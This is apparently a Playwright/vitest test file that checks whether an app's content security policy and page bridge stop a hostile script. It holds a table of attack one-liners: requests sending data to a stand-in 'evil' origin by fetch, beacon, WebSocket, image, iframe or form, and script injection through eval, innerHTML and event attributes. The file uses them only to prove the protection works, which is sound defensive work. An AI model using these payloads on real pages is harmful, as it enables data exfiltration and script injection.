import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ok } from '../../../app/result';
import { readBundle } from '../bundle';
import { type BrowserWindow, openBrowserWindow } from './browser-window';
import { findBrowser } from './find-browser';
import { answerCalls, pageOrigin, push } from './page-bridge';

/*
 * What a hostile script inside our page can do, tried in a real browser. Every attack leaves a trace: a
 * request at a server on this machine, or a word in the page. The same attacks on the same page without
 * our protection leave theirs, which shows that they are attacks.
 */
const attacks: Readonly<Record<string, string>> = {
  fetch: `fetch(evil + '/fetch', { mode: 'no-cors' }).catch(() => {})`,
  beacon: `navigator.sendBeacon(evil + '/beacon', 'x')`,
  'event-source': `new EventSource(evil + '/event-source')`,
  'web-socket': `new WebSocket(evil.replace('http', 'ws') + '/web-socket')`,
  image: `new Image().src = evil + '/image'`,
  stylesheet: `add('link', { rel: 'stylesheet', href: evil + '/stylesheet' })`,
  frame: `add('iframe', { src: evil + '/frame' })`,
  'foreign-script': `add('script', { src: evil + '/foreign-script' })`,
  'hidden-form': `add('iframe', { name: 'f' }); add('form', { action: evil + '/hidden-form', target: 'f' }).submit()`,
  worker: `new Worker(URL.createObjectURL(new Blob(["postMessage('worker')"]))).onmessage = (e) => pwned(e.data)`,
  'data-module': `import('data:text/javascript,pwned("data-module")').catch(() => {})`,
  eval: `eval('pwned("eval")')`,
  'function-constructor': `new Function('pwned("function-constructor")')()`,
  'inline-script': `add('script', { textContent: 'pwned("inline-script")' })`,
  'inner-html': `add('div', {}).innerHTML = '<img src="data:," onerror="pwned(\\'inner-html\\')">'`,
  'event-attribute': `add('div', {}).setAttribute('onclick', 'pwned("event-attribute")'); document.body.lastChild.click()`,
  'inline-style': `add('style', { textContent: 'body { outline: 7px solid }' }); if (getComputedStyle(document.body).outlineWidth === '7px') pwned('inline-style')`,
  'source-document': `add('iframe', { srcdoc: '<script>parent.pwned("source-document")</script>' })`,
  popup: `window.open(evil + '/popup')`,
  'posted-form': `add('form', { action: evil + '/posted-form', method: 'post' }).submit()`,
  navigation: `location.href = evil + '/navigation'`,
};

const attackScript = `
const evil = new URLSearchParams(location.search).get('evil');
window.traces = [];
window.pwned = (name) => window.traces.push(name);
window.start = (name) => void setTimeout(() => window.attacks[name](), 0);
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
window.attacks = { ${Object.entries(attacks)
  .map(([name, code]) => `${JSON.stringify(name)}: () => { ${code} }`)
  .join(',\n')} };`;

const attackPage = '<!doctype html><title>x</title><body><script src="/attack.js"></script></body>';

const settleMs = 250;

let evil: Server;
let evilOrigin: string;
let requested: string[] = [];
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'flatten-csp-'));
  await writeFile(join(dir, 'index.html'), attackPage);
  await writeFile(join(dir, 'attack.js'), attackScript);
  evil = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname;
    requested.push(path.slice(1));
    const script = path === '/attack.js';
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html');
    response.end(script ? attackScript : attackPage);
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const address = evil.address();
  evilOrigin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
});

afterAll(async () => {
  evil.closeAllConnections();
  evil.close();
  await rm(dir, { recursive: true, force: true });
});

describe('a hostile script in our window', () => {
  const released = deferred();
  let window: BrowserWindow;

  beforeAll(async () => {
    window = await openBrowserWindow({
      executablePath: browserPath(),
      headless: true,
      dataDir: dir,
      bundle: await readBundle(dir, pageOrigin),
    });
    await answerCalls(window.page, async (name, input) => {
      if (name === 'slow.call') await released.promise;
      return ok({ name, input });
    });
    await window.page.goto(`${pageOrigin}/?evil=${encodeURIComponent(evilOrigin)}`);
  }, 30_000);

  afterAll(() => window.close());

  it.each(Object.keys(attacks))('gets nowhere by %s', async (name) => {
    expect(await attack(window.page, name)).toBe(false);
    expect(window.page.url()).toContain(pageOrigin);
    expect(window.context.pages()).toEqual([window.page]);
  });

  it('leaves the page and its channel as they were', async () => {
    const answer = await window.page.evaluate('window.flatten.call("a.b", { c: [1, "龙"] })');
    expect(answer).toEqual({ ok: true, value: { name: 'a.b', input: { c: [1, '龙'] } } });
  });

  it('does not hear after a reload what was asked before it', async () => {
    await window.page.evaluate('void window.flatten.call("slow.call", {}); 0');
    await window.page.reload();
    const asked = window.page.evaluate('window.flatten.call("slow.call", { second: true })');
    released.resolve();
    expect(await asked).toEqual({
      ok: true,
      value: { name: 'slow.call', input: { second: true } },
    });
  });

  it('cannot replace the channel, nor reach it from a frame', async () => {
    const attempt = `(() => {
      try { 'use strict'; window.flatten = { call: () => 'mine' }; } catch {}
      try { window.flatten.call = () => 'mine'; } catch {}
      return window.flatten.call('a.b', {});
    })()`;
    expect(await window.page.evaluate(attempt)).toMatchObject({ ok: true });
    const inFrame = `new Promise((resolve) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      const call = frame.contentWindow['flatten:call'];
      if (call === undefined) return resolve('nothing there');
      call('a.b', {}).then(() => resolve('answered'), () => resolve('refused'));
      setTimeout(() => resolve('silence'), 1000);
    })`;
    expect(['nothing there', 'refused', 'silence']).toContain(await window.page.evaluate(inFrame));
  });

  it('does not keep pushes from the page, in their order', async () => {
    await window.page.evaluate(
      'window.seen = []; window.stop = window.flatten.listen((name, payload) => window.seen.push([name, payload])); 0',
    );
    for (let turn = 0; turn < 20; turn += 1) void push(window.page, 'close.changed', { turn });
    await push(window.page, 'close.changed', { turn: 20 });
    const seen = await window.page.evaluate('window.seen.map(([, payload]) => payload.turn)');
    expect(seen).toEqual(Array.from({ length: 21 }, (_, turn) => turn));
    await window.page.evaluate('window.stop()');
    await push(window.page, 'close.changed', { turn: 21 });
    expect(await window.page.evaluate('window.seen.length')).toBe(21);
  });

  it('is brought back when it leaves for an empty page', async () => {
    const left = window.page.waitForEvent(
      'framenavigated',
      (frame) => frame.url() === 'about:blank',
    );
    await window.page.evaluate('location.href = "about:blank"').catch(() => undefined);
    await left;
    await window.page.waitForURL(`${pageOrigin}/**`);
    await window.page.waitForLoadState();
    const answer = await window.page.evaluate('window.flatten.call("a.b", {})');
    expect(answer).toMatchObject({ ok: true });
  });
});

describe('the same script in a page without protection', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: browserPath(), chromiumSandbox: false });
  });

  afterAll(() => browser.close());

  it.each(Object.keys(attacks))('succeeds by %s', async (name) => {
    const page = await browser.newPage();
    await page.goto(`${evilOrigin}/?evil=${encodeURIComponent(evilOrigin)}`);
    expect(await attack(page, name)).toBe(true);
    await page.close();
  });
});

function deferred(): { readonly promise: Promise<void>; readonly resolve: () => void } {
  let resolve = (): void => undefined;
  const promise = new Promise<void>((done) => {
    resolve = done;
  });
  return { promise, resolve };
}

/** Whether the attack left a trace. */
async function attack(page: Page, name: string): Promise<boolean> {
  requested = [];
  // By a timer of the page: what runs inside an evaluation from outside is allowed to evaluate text.
  await page.evaluate(`window.start(${JSON.stringify(name)})`).catch(() => undefined);
  const until = Date.now() + settleMs;
  while (Date.now() < until) {
    const traces: unknown = await page.evaluate('window.traces').catch(() => []);
    if (requested.includes(name) || (Array.isArray(traces) && traces.includes(name))) return true;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return false;
}

function browserPath(): string {
  const path = findBrowser();
  if (path === null) throw new Error('This test needs an installed Chrome, Chromium or Edge');
  return path;
}
